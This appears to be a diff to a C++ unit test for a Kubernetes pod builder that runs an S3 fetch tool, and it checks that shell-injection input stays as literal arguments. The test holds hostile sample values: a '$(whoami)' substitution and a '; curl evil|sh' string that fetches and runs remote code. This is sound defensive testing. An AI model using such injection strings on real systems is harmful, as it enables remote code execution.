@@ -449,7 +449,8 @@ TEST_CASE("S3 download pods run vck-fetch with argv and secretKeyRef env, one pe
     const auto& c = pod.spec.containers.at(0);
     CHECK(c.image == "registry.example/vck-fetch:1");
     CHECK(c.command == std::vector<std::string>{"vck-fetch"});
-    CHECK(c.args == std::vector<std::string>{"fetch", "s3://bucket/data/", "/vck/data", "--endpoint=http://minio:9000"});
+    CHECK(c.args == std::vector<std::string>{"fetch", "s3://bucket/data/", "/vck/data", "--endpoint=http://minio:9000",
+                                         "--progress-interval=5", "--termination-log=/dev/termination-log"});
     REQUIRE(c.env.size() == 2);
     CHECK(c.env[0].name == "AWS_ACCESS_KEY_ID");
     CHECK(c.env[0].valueFrom->secretKeyRef->name == "aws-creds");
@@ -490,7 +491,7 @@ TEST_CASE("shell-injection payloads stay literal argv entries") {
     CHECK(c.command == std::vector<std::string>{"vck-fetch"});
     CHECK(c.args.at(1) == payload);
     CHECK(c.args.at(3) == "--endpoint=http://h/$(whoami)");
-    CHECK(c.args.at(4) == "--include=*.jpg; curl evil|sh");
+    CHECK(c.args.back() == "--include=*.jpg; curl evil|sh");
     for (const auto& a : c.args) CHECK(a.find("sh -c") == std::string::npos);
 
     auto pv = pachyderm_volume();
